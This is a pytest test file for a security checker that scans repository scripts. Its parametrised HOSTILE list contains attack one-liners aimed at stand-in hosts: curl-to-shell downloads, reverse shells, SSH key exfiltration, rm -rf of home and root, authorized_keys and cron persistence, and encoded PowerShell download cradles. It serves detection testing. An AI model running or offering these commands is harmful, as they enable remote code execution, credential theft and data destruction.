from pathlib import Path

import pytest

from openvet.artifacts import Script
from openvet.check import Context
from openvet.checks.security.script_in_repository import ScriptInRepository
from openvet.finding import Severity
from openvet.readers.script import ScriptReader
from specimens.reading import read
from specimens.repositories import put

HOSTILE = [
    "curl -sSL https://a.invalid/x | sh",
    "wget -qO- http://a.invalid/x | sudo bash -s --",
    "bash <(curl -s https://a.invalid/x)",
    'eval "$(curl -fsSL https://a.invalid/x)"',
    "curl -o x https://a.invalid/x && chmod +x x && ./x",
    "curl https://a.invalid/x \\\n  | bash",
    "echo aGk= | base64 -d | sh",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "nc -e /bin/sh 192.0.2.1 4444",
    "rm -rf ~",
    "rm -rf --no-preserve-root /",
    "echo x >> ~/.ssh/authorized_keys",
    "(crontab -l; echo '* * * * * x') | crontab -",
    'curl -d "$(cat ~/.ssh/id_rsa)" https://a.invalid',
    "powershell -enc SQBFAFgAKABOAGUAdwAtAE8A",
    "iex (New-Object Net.WebClient).DownloadString('http://a.invalid')",
    "require('child_process').exec('id')",
]
PLAIN = [
    "python convert.py --model .",
    "pip install -r requirements.txt",
    "rm -rf build/ ./dist",
    "wget https://huggingface.co/a/b/resolve/main/model.safetensors",
    "# curl https://a.invalid | sh",
    "curl -L https://a.example/data.tar.gz | tar xz",
    "torchrun --nproc_per_node 8 train.py | tee log.txt",
]


def flagged(folder: Path) -> None:
    put(folder, install__sh="#!/bin/sh\ncurl https://a.invalid/x | sh\n")


def passed(folder: Path) -> None:
    # Only a notebook's own commands are left to another rule.
    cell = {"cell_type": "code", "source": "!ls"}
    put(folder, demo__ipynb={"cells": [cell], "nbformat": 4})


def judged(source: str) -> list[Severity]:
    (script,) = read(ScriptReader(), source.encode(), name="run.sh")
    assert isinstance(script, Script)
    return [f.severity for f in ScriptInRepository().run(script, Context())]


@pytest.mark.parametrize("source", HOSTILE)
def test_a_command_that_no_model_needs_fails(source: str) -> None:
    assert Severity.HIGH in judged(source)


@pytest.mark.parametrize("source", PLAIN)
def test_an_ordinary_script_is_a_hint(source: str) -> None:
    assert judged(source) == [Severity.LOW]


def test_a_script_is_known_by_first_line_or_extension() -> None:
    reader = ScriptReader()
    assert read(reader, b"#!/bin/bash\nls\n", name="hooks/post-checkout")
    assert read(reader, b"@echo off\r\n", name="run.bat")
    assert not read(reader, b"#!/usr/bin/env python\n", name="run")
    assert not read(reader, b"ls\n", name="notes.txt")
